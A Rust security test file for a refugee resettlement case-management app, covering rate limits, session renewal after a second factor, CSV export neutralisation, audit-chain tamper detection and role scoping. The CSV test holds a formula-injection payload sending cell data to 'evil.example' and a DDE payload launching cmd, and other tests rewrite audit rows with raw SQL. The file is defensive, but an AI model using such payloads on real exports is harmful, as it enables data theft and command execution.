async fn sign_in_attempts_are_limited_per_address() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let mut limited = 0;
        for i in 0..25 {
            if let Err(AppError::TooManyRequests { .. }) = app
                .login(&format!("someone-{i}"), "a guess at a password", "6.6.6.7")
                .await
            {
                limited += 1;
            }
        }
        assert_eq!(limited, 5, "{}", db.backend);
        assert!(
            app.login("planner", DEMO_PASSWORD, "192.0.2.2")
                .await
                .is_ok()
        );
    }
}
/// Attack: session fixation across the second factor. Whoever saw the half-signed-in
/// cookie and its CSRF token (planted it, or read it before the code was typed) held them
/// after the user's code too: before, a right code only flagged the same session. Now it
/// moves the session to a new cookie and a new CSRF token; the old pair opens nothing.
#[tokio::test]
async fn the_second_factor_renews_the_session_cookie_and_csrf_token() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let half = app
            .login("medical-officer", DEMO_PASSWORD, "t")
            .await
            .unwrap();
        let half_csrf = app.session(&half.cookie, "t").await.unwrap().csrf_token;
        let renewed = app
            .second_factor(&half.cookie, &code(&app), "t")
            .await
            .unwrap();
        assert_ne!(renewed, half.cookie, "{}", db.backend);
        assert!(
            app.session(&half.cookie, "t").await.is_err(),
            "{}: the half-signed-in cookie still opens a session",
            db.backend
        );
        let full = app.session(&renewed, "t").await.unwrap();
        assert!(!full.needs_second_factor, "{}", db.backend);
        assert_ne!(
            full.csrf_token, half_csrf,
            "{}: the CSRF token is new",
            db.backend
        );
    }
}

/// The cells of a CSV document, header included.
fn csv_cells(document: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(document.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Attack: text an outsider controls reaches a spreadsheet as a live formula. A failed
/// sign-in as `=HYPERLINK(…)` lands in the auditor's export; a pledge's source in the
/// public pledges CSV. Before, both went out as typed and the spreadsheet ran them. Now
/// every cell that would start a formula leaves with a `'` in front, while a negative gap
/// stays a number.
#[tokio::test]
async fn exported_csv_cells_never_start_a_spreadsheet_formula() {
    const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";
    const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        assert!(app.login(LINK, "whatever it is", "attacker").await.is_err());
        let auditor = caller_of(&app, "auditor").await;
        let trail = app.audit_csv(&auditor, &Default::default()).await.unwrap();
        let trail = csv_cells(&trail);
        assert!(
            trail.iter().flatten().any(|c| *c == format!("'{LINK}")),
            "{}: the name is exported, neutralised",
            db.backend
        );
        app.set_pledge(
            &op,
            "BE",
            &resettle_domain::programme::Pledge {
                year: 2001,
                pledged: 5,
                arrived_before_resettle: Some(17),
                source: DDE.into(),
            },
        )
        .await
        .unwrap();
        let pledges = csv_cells(&app.pledges_csv("BE").await.unwrap());
        let row = pledges
            .iter()
            .find(|r| r[0] == "2001")
            .expect("the 2001 pledge");
        assert_eq!(
            row[3], "-12",
            "{}: a negative gap stays a number",
            db.backend
        );
        assert_eq!(row[4], format!("'{DDE}"), "{}", db.backend);
        for cell in trail.iter().chain(&pledges).flatten() {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<i64>().is_err());
            assert!(
                !formula,
                "{}: {cell:?} would run in a spreadsheet",
                db.backend
            );
        }
    }
}

/// Attack: weak passwords and look-alike names. Before, twelve spaces, `aaaaaaaaaaaa` and
/// `qwerty123456` were accepted as passwords, and `Case-Officer` could be added beside
/// `case-officer` (a second account the trail would show as "the case officer"). Now each
/// is refused naming the field and the reason, and the database itself refuses a name
/// that differs from another only in case.
#[tokio::test]
async fn weak_passwords_and_look_alike_user_names_are_refused() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        for (password, reason) in [
            ("            ", "too_short"),
            ("aaaaaaaaaaaa", "one_character_repeated"),
            ("Qwerty123456", "common_password"),
        ] {
            let e = app
                .add_user(&op, "newcomer", "planner", None, password)
                .await
                .unwrap_err();
            assert!(
                matches!(&e, AppError::Refused(r) if r.field == "password" && r.kind.as_str() == reason),
                "{}: {password:?}: {e}",
                db.backend
            );
            let e = app
                .reset_password(&op, "planner", password)
                .await
                .unwrap_err();
            assert!(e.to_string().contains("password: "), "{}: {e}", db.backend);
        }
        for look_alike in ["Case-Officer", "CASE-OFFICER", "cаse-officer"] {
            let e = app
                .add_user(
                    &op,
                    look_alike,
                    "case-officer",
                    None,
                    "a phrase of several words",
                )
                .await
                .unwrap_err();
            assert!(
                e.to_string().contains("case-officer") || e.to_string().contains("username:"),
                "{}: {look_alike:?} was added: {e}",
                db.backend
            );
        }
        app.add_user(
            &op,
            "New.Comer",
            "planner",
            None,
            "a phrase of several words",
        )
        .await
        .unwrap();
        assert!(
            app.login("new.comer", "a phrase of several words", "t")
                .await
                .is_ok(),
            "{}: names are stored lowercase",
            db.backend
        );
        let pool = raw(&db.url).await;
        let sneaked = sqlx::query(
            "INSERT INTO users (username, roles, password_hash, disabled, created_at) \
             VALUES ('PLANNER', 'admin', 'x', FALSE, '2020-01-01T00:00:00Z')",
        )
        .execute(&pool)
        .await;
        assert!(
            sneaked
                .as_ref()
                .err()
                .and_then(|e| e.as_database_error())
                .is_some_and(|e| e.is_unique_violation()),
            "{}: the database refuses a name differing only in case: {sneaked:?}",
            db.backend
        );
        pool.close().await;
    }
}

/// User names are stored lowercase, so the sign-in form finds a user whatever case and
/// surrounding spaces were typed.
#[tokio::test]
async fn sign_in_finds_a_user_whatever_the_case_typed() {
    let db = resettle_testkit::sqlite();
    let app = demo_app(&db.url).await;
    let s = app
        .login(" Planner ", DEMO_PASSWORD, "192.0.2.3")
        .await
        .unwrap();
    let session = app.session(&s.cookie, "192.0.2.3").await.unwrap();
    assert_eq!(session.caller.username, "planner");
}

/// The attacker's hash: plain SHA-256 over the previous hash and every field,
/// length-prefixed, as the trail computed it before it was keyed.
fn plain_hash(prev: &str, r: &sqlx::any::AnyRow) -> String {
    use sha2::Digest;
    let mut h = sha2::Sha256::new();
    let seq: i64 = r.try_get("seq").unwrap();
    let seq = seq.to_string();
    let mut parts = vec![prev.to_string(), seq];
    for c in [
        "at",
        "actor",
        "source",
        "action",
        "entity",
        "entity_id",
        "fields",
        "outcome",
        "detail",
    ] {
        parts.push(r.try_get(c).unwrap());
    }
    for p in &parts {
        h.update((p.len() as u64).to_be_bytes());
        h.update(p.as_bytes());
    }
    hex::encode(h.finalize())
}

/// The demo app anchoring its trail every 10 entries in a file of `dir`.
async fn anchored_demo_app(url: &str, dir: &std::path::Path) -> App {
    let policy = AnchorPolicy {
        every_entries: 10,
        every: time::Duration::seconds(60),
    };
    let app = demo_app(url)
        .await
        .with_audit_anchor(dir.join("audit.anchor"), policy);
    let op = Caller::operator();
    for _ in 0..25 {
        app.list_cases(&op, &Default::default()).await.unwrap();
    }
    app
}

/// Attack: delete the newest entries with raw SQL. Before: "intact" (the rest links
/// perfectly). Now the chain ends before the last anchor, and verify says so.
#[tokio::test]
async fn attack_deleting_the_newest_entries_is_detected() {
    for db in resettle_testkit::databases() {
        let dir = tempfile::tempdir().unwrap();
        let app = anchored_demo_app(&db.url, dir.path()).await;
        let op = Caller::operator();
        let anchors = std::fs::read_to_string(dir.path().join("audit.anchor")).unwrap();
        let last: i64 = anchors
            .lines()
            .last()
            .unwrap()
            .split(' ')
            .next()
            .unwrap()
            .parse()
            .unwrap();
        assert!(anchors.lines().count() >= 2, "{anchors}");
        let pool = raw(&db.url).await;
        sqlx::query("DELETE FROM audit_log WHERE seq > $1")
            .bind(last - 3)
            .execute(&pool)
            .await
            .unwrap();
        match app.verify_audit(&op).await.unwrap() {
            ChainCheck::Broken {
                seq,
                fault: Fault::Truncated { head, anchored, .. },
            } => {
                assert_eq!(
                    (seq, head, anchored),
                    (last - 2, last - 3, last),
                    "{}",
                    db.backend
                );
            }
            other => panic!(
                "{}: cutting the trail went unnoticed: {other:?}",
                db.backend
            ),
        }
        pool.close().await;
    }
}

/// Rewrites entry 3's detail and recomputes every later hash with plain SHA-256, as someone
/// with the database but not the key would; `strip_key` also marks the rewritten entries
/// as plain ones, so verify would apply the plain rule to them.
async fn rewrite_and_rehash(pool: &sqlx::AnyPool, strip_key: bool) {
    let mut prev: String = sqlx::query_scalar("SELECT hash FROM audit_log WHERE seq = 2")
        .fetch_one(pool)
        .await
        .unwrap();
    sqlx::query("UPDATE audit_log SET detail = 'nothing to see' WHERE seq = 3")
        .execute(pool)
        .await
        .unwrap();
    if strip_key {
        sqlx::query("UPDATE audit_log SET key_id = '' WHERE seq >= 3")
            .execute(pool)
            .await
            .unwrap();
    }
    let rows = sqlx::query("SELECT * FROM audit_log WHERE seq >= 3 ORDER BY seq")
        .fetch_all(pool)
        .await
        .unwrap();
    for r in &rows {
        let hash = plain_hash(&prev, r);
        sqlx::query("UPDATE audit_log SET prev_hash = $1, hash = $2 WHERE seq = $3")
            .bind(&prev)
            .bind(&hash)
            .bind(r.try_get::<i64, _>("seq").unwrap())
            .execute(pool)
            .await
            .unwrap();
        prev = hash;
    }
}

/// Attack: rewrite an entry and recompute the chain after it. Before: "intact". Now the
/// keyed hash of the entry no longer matches, or, with the entries marked plain, a plain
/// entry follows keyed ones; either way verify names entry 3.
#[tokio::test]
async fn attack_rewriting_an_entry_and_rehashing_the_rest_is_detected() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        app.list_cases(&op, &Default::default()).await.unwrap();
        let pool = raw(&db.url).await;
        for (strip_key, fault) in [(false, Fault::Edited), (true, Fault::Downgraded)] {
            rewrite_and_rehash(&pool, strip_key).await;
            assert_eq!(
                app.verify_audit(&op).await.unwrap(),
                ChainCheck::Broken { seq: 3, fault },
                "{}",
                db.backend
            );
        }
        pool.close().await;
    }
}

/// Entries written before the chain was keyed (plain SHA-256, as a database without a key
/// still writes them) verify beside keyed ones; once the chain is keyed, a process without
/// the key may not append to it.
#[tokio::test]
async fn plain_entries_from_before_the_key_still_verify() {
    for db in resettle_testkit::databases() {
        let clock = std::sync::Arc::new(FixedClock::on(resettle_testkit::TODAY));
        let unkeyed = App::open(&db.url).await.unwrap().with_clock(clock.clone());
        let op = Caller::operator();
        for _ in 0..3 {
            unkeyed
                .audit_entries(&op, &Default::default())
                .await
                .unwrap();
        }
        let pool = raw(&db.url).await;
        let rows = sqlx::query("SELECT * FROM audit_log ORDER BY seq")
            .fetch_all(&pool)
            .await
            .unwrap();
        let mut prev = resettle_storage::GENESIS.to_string();
        for r in &rows {
            let hash: String = r.try_get("hash").unwrap();
            assert_eq!(hash, plain_hash(&prev, r), "the rule of before the key");
            assert_eq!(r.try_get::<String, _>("key_id").unwrap(), "");
            prev = hash;
        }
        let keyed = unkeyed.clone().with_keys(keys());
        keyed.audit_entries(&op, &Default::default()).await.unwrap();
        let check = keyed.verify_audit(&op).await.unwrap();
        assert_eq!(
            check,
            ChainCheck::Intact {
                entries: 4,
                plain: 3,
                anchored: 0
            },
            "{}",
            db.backend
        );
        let refused = unkeyed.audit_entries(&op, &Default::default()).await;
        assert!(
            matches!(&refused, Err(AppError::Internal(m)) if m.contains("keyed")),
            "{refused:?}"
        );
        pool.close().await;
    }
}

/// A view of the trail checks only what was written since the last verification: the
/// first view verifies it all, later ones read on from there and still catch an edit of a
/// newer entry, while the time of the last full check stays what it was.
#[tokio::test]
async fn a_view_of_the_trail_checks_only_the_entries_since_the_last_verification() {
    for db in resettle_testkit::databases() {
        let (app, clock) = demo_app_and_clock(&db.url).await;
        let op = Caller::operator();
        let first = app.audit_status(&op).await.unwrap();
        let ChainCheck::Intact { entries, .. } = first.check else {
            panic!("{first:?}")
        };
        assert_eq!(first.full_check_at, "2026-11-23T12:00:00Z");
        clock.advance(time::Duration::minutes(5));
        app.list_cases(&op, &Default::default()).await.unwrap();
        let later = app.audit_status(&op).await.unwrap();
        assert_eq!(
            later.check,
            ChainCheck::Intact {
                entries: entries + 1,
                plain: 0,
                anchored: 0
            }
        );
        assert_eq!(
            later.full_check_at, first.full_check_at,
            "no full check ran"
        );
        app.list_cases(&op, &Default::default()).await.unwrap();
        let pool = raw(&db.url).await;
        sqlx::query("UPDATE audit_log SET actor = 'someone else' WHERE seq = $1")
            .bind(entries + 2)
            .execute(&pool)
            .await
            .unwrap();
        assert_eq!(
            app.audit_status(&op).await.unwrap().check,
            ChainCheck::Broken {
                seq: entries + 2,
                fault: Fault::Edited
            },
            "{}",
            db.backend
        );
        pool.close().await;
    }
}

/// Attack on the scope: a municipality kept seeing a family after it moved to a home in
/// another municipality (its scope matched the name of the reception place, which the move
/// left behind). The case now carries the municipality the family lives in, kept current
/// by every step that moves it.
#[tokio::test]
async fn a_municipality_sees_a_family_until_it_moves_away_and_the_new_one_from_then() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let here = caller_of(&app, "municipality").await;
        let in_reception = resettle_app::cases::CaseQuery {
            state: Some(resettle_domain::case::CaseState::InReception),
            per_page: Some(500),
            ..Default::default()
        };
        let mine = app.list_cases(&here, &in_reception).await.unwrap();
        let n = mine
            .items
            .first()
            .unwrap_or_else(|| panic!("{}: no family in reception in {here:?}", db.backend))
            .case_number
            .clone();
        let elsewhere = Caller {
            organisation: Some("Nieuwgemeente".into()),
            ..here.clone()
        };
        assert!(app.case(&elsewhere, &n).await.is_err(), "{}", db.backend);
        let version = app
            .case_full(&Caller::operator(), &n)
            .await
            .unwrap()
            .version;
        app.transition(
            &Caller::operator(),
            &n,
            &resettle_app::cases::TransitionRequest {
                reason: "a home found".into(),
                municipality: Some("Nieuwgemeente".into()),
                address: Some("Dorpsstraat 1, 9999 Nieuwgemeente".into()),
                ..resettle_app::cases::TransitionRequest::to(
                    resettle_domain::case::CaseState::Housed,
                    version,
                )
            },
        )
        .await
        .unwrap();
        assert!(
            matches!(
                app.case(&here, &n).await,
                Err(AppError::Refused(r)) if r.kind.as_str() == "no_such_case"
            ),
            "{}: the municipality the family left no longer sees it",
            db.backend
        );
        assert!(
            app.case(&elsewhere, &n).await.is_ok(),
            "{}: the municipality it moved to does",
            db.backend
        );
        let listed = app
            .list_cases(&elsewhere, &Default::default())
            .await
            .unwrap();
        assert!(listed.items.iter().any(|c| c.case_number == n));
    }
}

/// "Our families": the municipality a family lives in sees it with its address, and a
/// family on its way there once a place in it is confirmed; another municipality does not.
/// A UNHCR liaison, a medical officer and a planner are refused the page (the refusal
/// audited, nothing shown), and the liaison never sees the address on the case or in its
/// history. Each family shown is recorded as a read of its case.
#[tokio::test]
async fn only_those_who_support_a_family_see_where_it_lives() {
    const HOME: &str = "Veldstraat 1, 9000 Gent";
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        let municipality = caller_of(&app, "municipality").await;
        let reception = caller_of(&app, "reception-officer").await;
        let liaison = caller_of(&app, "unhcr-liaison").await;
        let town = municipality.organisation.clone().unwrap();
        let in_reception = resettle_app::cases::CaseQuery {
            state: Some(resettle_domain::case::CaseState::InReception),
            per_page: Some(500),
            ..Default::default()
        };
        // A family the liaison's office submitted moves into a home in the municipality.
        let n = app
            .list_cases(&liaison, &in_reception)
            .await
            .unwrap()
            .items
            .first()
            .unwrap_or_else(|| panic!("{}: no family of {liaison:?} in reception", db.backend))
            .case_number
            .clone();
        let version = app.case_full(&op, &n).await.unwrap().version;
        app.transition(
            &reception,
            &n,
            &resettle_app::cases::TransitionRequest {
                reason: "a home found".into(),
                municipality: Some(town.clone()),
                address: Some(HOME.into()),
                ..resettle_app::cases::TransitionRequest::to(
                    resettle_domain::case::CaseState::Housed,
                    version,
                )
            },
        )
        .await
        .unwrap();
        let all = resettle_app::families::FamiliesQuery {
            per_page: Some(500),
            ..Default::default()
        };
        let ours = app.families(&municipality, &all).await.unwrap();
        let family = ours
            .arrived
            .iter()
            .find(|f| f.case_number == n)
            .unwrap_or_else(|| panic!("{}: {n} is not among {town}'s families", db.backend));
        assert_eq!(family.address.as_deref(), Some(HOME), "{}", db.backend);
        assert!(family.arrived_on.is_some() && family.follow_ups.len() == 2);
        let elsewhere = Caller {
            organisation: Some("Nieuwgemeente".into()),
            ..municipality.clone()
        };
        let theirs = app.families(&elsewhere, &all).await.unwrap();
        assert!(theirs.arrived.iter().all(|f| f.case_number != n));
        // A reception officer sees what the municipality's staff see, once it chooses it.
        let choose = app.families(&reception, &all).await.unwrap();
        assert!(choose.arrived.is_empty() && choose.municipalities.contains(&town));
        let chosen = app
            .families(
                &reception,
                &resettle_app::families::FamiliesQuery {
                    municipality: Some(town.clone()),
                    ..all.clone()
                },
            )
            .await
            .unwrap();
        let numbers = |f: &resettle_app::families::Families| -> Vec<String> {
            f.arrived.iter().map(|x| x.case_number.clone()).collect()
        };
        assert_eq!(numbers(&chosen), numbers(&ours), "{}", db.backend);
        // Those who do not support families are refused, and see nothing.
        for who in ["unhcr-liaison", "medical-officer", "planner"] {
            let caller = caller_of(&app, who).await;
            let e = app.families(&caller, &all).await.unwrap_err();
            assert!(matches!(e, AppError::Forbidden { .. }), "{who}: {e}");
        }
        let case = app.case(&liaison, &n).await.unwrap();
        assert!(case.get("address").is_none() && !case.to_string().contains(HOME));
        assert!(
            case.get("arrived_on").is_some(),
            "the liaison sees the arrival"
        );
        let history = app.case_events(&liaison, &n).await.unwrap();
        assert!(!serde_json::to_string(&history).unwrap().contains(HOME));
        // A family on its way: its place in the municipality is confirmed.
        app.propose_placements(&reception, "BE").await.unwrap();
        let (_, proposals) = app.proposals(&reception, "BE").await.unwrap();
        let mut abroad = None;
        for p in &proposals {
            if app.case(&reception, &p.case_number).await.unwrap()["state"] == "departure_scheduled"
            {
                abroad = Some(p.case_number.clone());
                break;
            }
        }
        let abroad = abroad.unwrap_or_else(|| panic!("{}: no family to place", db.backend));
        assert!(
            !app.families(&municipality, &all)
                .await
                .unwrap()
                .expected
                .iter()
                .any(|f| f.case_number == abroad),
            "{}: not before its place is confirmed",
            db.backend
        );
        let place = app
            .reception_day(&reception, "BE", None, None)
            .await
            .unwrap()
            .places
            .into_iter()
            .find(|p| p.municipality == town && p.kind == PlaceKind::Loi)
            .unwrap_or_else(|| panic!("{}: no LOI in {town}", db.backend))
            .code;
        app.decide_placement(
            &reception,
            &abroad,
            &resettle_app::PlacementDecision {
                decision: resettle_domain::reception::PlacementVerdict::Confirm,
                place: Some(place),
                over_capacity_reason: None,
            },
        )
        .await
        .unwrap();
        let expected = app.families(&municipality, &all).await.unwrap().expected;
        assert!(
            expected.iter().any(|f| f.case_number == abroad),
            "{}: {abroad} is expected in {town}",
            db.backend
        );
        assert!(
            expected
                .windows(2)
                .all(|w| w[0].departure_date <= w[1].departure_date),
            "soonest first"
        );
        assert!(
            !app.families(&elsewhere, &all)
                .await
                .unwrap()
                .expected
                .iter()
                .any(|f| f.case_number == abroad)
        );
        let trail = app.audit_entries(&op, &Default::default()).await.unwrap();
        assert!(trail.iter().any(|e| e.action == "read"
            && e.entity == "case"
            && e.entity_id == n
            && e.actor == municipality.username
            && e.detail == "our families"));
        assert!(
            trail
                .iter()
                .filter(|e| e.action == "refused" && e.entity == "families")
                .count()
                >= 3,
            "{}: every refusal is in the trail",
            db.backend
        );
    }
}

/// Attack on reception in stages: every role but the reception officer's is refused a
/// move between reception places (those who may know the case exists forbidden, with the
/// refusal in the trail; the others told it does not exist), a stale move is refused too,
/// and none of them changes the family's stays.
#[tokio::test]
async fn attack_only_a_reception_officer_moves_a_family_and_a_refused_move_changes_nothing() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        let n = app
            .list_cases(
                &op,
                &resettle_app::cases::CaseQuery {
                    state: Some(resettle_domain::case::CaseState::InReception),
                    ..Default::default()
                },
            )
            .await
            .unwrap()
            .items[0]
            .case_number
            .clone();
        let before = app.case_full(&op, &n).await.unwrap();
        let here = before.reception_place.clone().unwrap();
        let reception = caller_of(&app, "reception-officer").await;
        let other = app
            .reception_day(&reception, "BE", None, None)
            .await
            .unwrap()
            .places
            .into_iter()
            .find(|p| {
                p.kind == PlaceKind::Loi
                    && p.code != here
                    && p.occupied_persons + 10 <= p.capacity_persons
            })
            .unwrap()
            .code;
        let mv = |version| resettle_app::cases::MoveRequest {
            place: other.clone(),
            on: None,
            reason: "nearer the school".into(),
            over_capacity_reason: None,
            expected_version: version,
        };
        for role in [
            "case-officer",
            "medical-officer",
            "unhcr-liaison",
            "municipality",
            "sponsor",
            "planner",
            "auditor",
            "admin",
        ] {
            let caller = caller_of(&app, role).await;
            match app.move_family(&caller, &n, &mv(before.version)).await {
                Err(AppError::Forbidden { .. } | AppError::NotFound(_)) => {}
                Err(AppError::Refused(r)) if r.kind.as_str() == "no_such_case" => {}
                other => panic!("{}: {role} moved the family: {other:?}", db.backend),
            }
        }
        assert!(matches!(
            app.move_family(&reception, &n, &mv(before.version - 1))
                .await,
            Err(AppError::Conflict(_))
        ));
        let after = app.case_full(&op, &n).await.unwrap();
        assert_eq!(
            (after.version, &after.stays, &after.reception_place),
            (before.version, &before.stays, &before.reception_place),
            "{}: the refused moves changed nothing",
            db.backend
        );
        let trail = app.audit_entries(&op, &Default::default()).await.unwrap();
        assert!(
            trail
                .iter()
                .any(|e| e.action == "refused" && e.entity == "stay" && e.entity_id == n),
            "{}: the refusal is in the trail",
            db.backend
        );
        let moved = app
            .move_family(&reception, &n, &mv(before.version))
            .await
            .unwrap();
        assert_eq!(moved.version, before.version + 1);
        let trail = app.audit_entries(&op, &Default::default()).await.unwrap();
        assert!(
            trail.iter().any(|e| e.action == "write"
                && e.entity == "case"
                && e.entity_id == n
                && e.detail
                    .starts_with(&format!("moved from {here} to {other}"))),
            "{}: the move is in the trail",
            db.backend
        );
    }
}

/// Attack on the overdue list: a municipality asks for every programme's overdue cases. It
/// is refused, the refusal is in the trail, and no read of the list is.
#[tokio::test]
async fn a_municipality_is_refused_the_overdue_list_and_the_refusal_is_recorded() {
    let db = resettle_testkit::sqlite();
    let app = demo_app(&db.url).await;
    let here = caller_of(&app, "municipality").await;
    let list_entries = |action| {
        let app = app.clone();
        async move {
            app.audit_entries(
                &Caller::operator(),
                &resettle_app::AuditQuery {
                    actor: Some("municipality".into()),
                    action: Some(action),
                    entity: Some(resettle_domain::audit::AuditEntity::CaseList),
                    ..Default::default()
                },
            )
            .await
            .unwrap()
            .len()
        }
    };
    use resettle_domain::audit::AuditAction;
    let (reads, refusals) = (
        list_entries(AuditAction::Read).await,
        list_entries(AuditAction::Refused).await,
    );
    let overdue = resettle_app::cases::CaseQuery {
        overdue: Some(true),
        ..Default::default()
    };
    let refused = app.list_cases(&here, &overdue).await.unwrap_err();
    assert!(
        matches!(refused, resettle_app::AppError::Forbidden { .. }),
        "{refused:?}"
    );
    assert_eq!(list_entries(AuditAction::Read).await, reads);
    assert_eq!(list_entries(AuditAction::Refused).await, refusals + 1);
}
